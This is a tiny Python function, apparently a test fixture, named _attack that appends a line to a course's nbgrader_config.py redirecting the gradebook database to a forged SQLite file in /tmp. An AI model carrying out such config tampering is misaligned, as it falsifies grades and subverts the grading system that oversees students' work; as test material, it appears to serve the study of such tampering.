def _attack():
    with open("$course/nbgrader_config.py", "a") as f:
        f.write("\nc.CourseDirectory.db_url = 'sqlite:////tmp/forged-gradebook.db'\n")
    return "rewrote nbgrader_config.py"
